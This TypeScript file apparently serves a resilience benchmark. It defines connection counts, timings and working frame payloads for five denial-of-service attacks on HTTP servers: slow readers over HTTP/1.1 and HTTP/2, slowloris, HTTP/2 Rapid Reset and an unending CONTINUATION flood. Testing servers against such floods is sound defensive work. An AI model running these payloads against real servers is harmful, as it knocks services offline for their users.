import { FrameFlag, FrameType, frame, headerBlock, PREFACE, Setting, settings } from '../http2/frame.ts'

/** What one attacker does on each of its connections. */
export interface Attack {
  readonly name: string
  readonly title: string
  readonly connections: number
  /** Sent at once. */
  readonly opening: Uint8Array
  /** Sent every `everyMs`; `step` counts from 0 on each connection. */
  readonly burst: (step: number) => Uint8Array
  readonly everyMs: number
  /** False: it reads nothing that it is sent. */
  readonly reads: boolean
}

const NOTHING = new Uint8Array(0)
const HTTP1 = 'Host: bench\r\nUser-Agent: attack\r\n'

/** A whole request. */
const REQUEST = headerBlock([
  [':method', 'GET'],
  [':scheme', 'http'],
  [':path', '/'],
  [':authority', 'bench'],
])
const CANCEL = Buffer.from([0, 0, 0, 8])
const NO_WINDOW = Buffer.concat([PREFACE, settings([Setting.initialWindowSize, 0])])
const HTTP2 = Buffer.concat([PREFACE, settings()])

/** Streams that one connection opens before it starts anew: identifiers of a client are odd and only go up. */
const RESETS_A_BURST = 50

export const ATTACKS: readonly Attack[] = [
  {
    name: 'slow-readers',
    title: '200 that ask for 1 MiB and read nothing',
    connections: 200,
    opening: Buffer.from(`GET /1m HTTP/1.1\r\n${HTTP1}\r\n`, 'latin1'),
    burst: () => NOTHING,
    everyMs: 1_000,
    reads: false,
  },
  {
    name: 'slow-readers-h2',
    title: '20 × 10 streams that ask for 1 MiB and open no window',
    connections: 20,
    opening: Buffer.concat([NO_WINDOW, ...Array.from({ length: 10 }, (_, index) => request(2 * index + 1, '/1m'))]),
    burst: () => NOTHING,
    everyMs: 1_000,
    reads: true,
  },
  {
    name: 'slowloris',
    title: '200 that send a header line a second and never end',
    connections: 200,
    opening: Buffer.from(`GET / HTTP/1.1\r\n${HTTP1}`, 'latin1'),
    burst: (step) => Buffer.from(`x-${step}: y\r\n`, 'latin1'),
    everyMs: 1_000,
    reads: true,
  },
  {
    name: 'rapid-reset',
    title: '4 that open and cancel 5,000 streams a second',
    connections: 4,
    opening: HTTP2,
    burst: resets,
    everyMs: 10,
    reads: true,
  },
  {
    name: 'continuation',
    title: '4 that send 1.6 MB a second of CONTINUATION without end',
    connections: 4,
    opening: Buffer.concat([HTTP2, frame(FrameType.headers, 0, 1, REQUEST)]),
    burst: () => CONTINUATION,
    everyMs: 10,
    reads: true,
  },
]

/** A literal field that fills a frame of 16 KB; the block never ends. */
const CONTINUATION = frame(
  FrameType.continuation,
  0,
  1,
  Buffer.concat(Array.from({ length: 160 }, (_, index) => headerBlock([[`x-${index}`, 'y'.repeat(90)]]))),
)

function request(stream: number, path: string): Buffer {
  const block = headerBlock([
    [':method', 'GET'],
    [':scheme', 'http'],
    [':path', path],
    [':authority', 'bench'],
  ])
  return frame(FrameType.headers, FrameFlag.endHeaders | FrameFlag.endStream, stream, block)
}

function resets(step: number): Buffer {
  const frames: Buffer[] = []
  for (let index = 0; index < RESETS_A_BURST; index += 1) {
    const stream = 2 * (step * RESETS_A_BURST + index) + 1
    frames.push(frame(FrameType.headers, FrameFlag.endHeaders | FrameFlag.endStream, stream, REQUEST))
    frames.push(frame(FrameType.reset, 0, stream, CANCEL))
  }
  return Buffer.concat(frames)
}
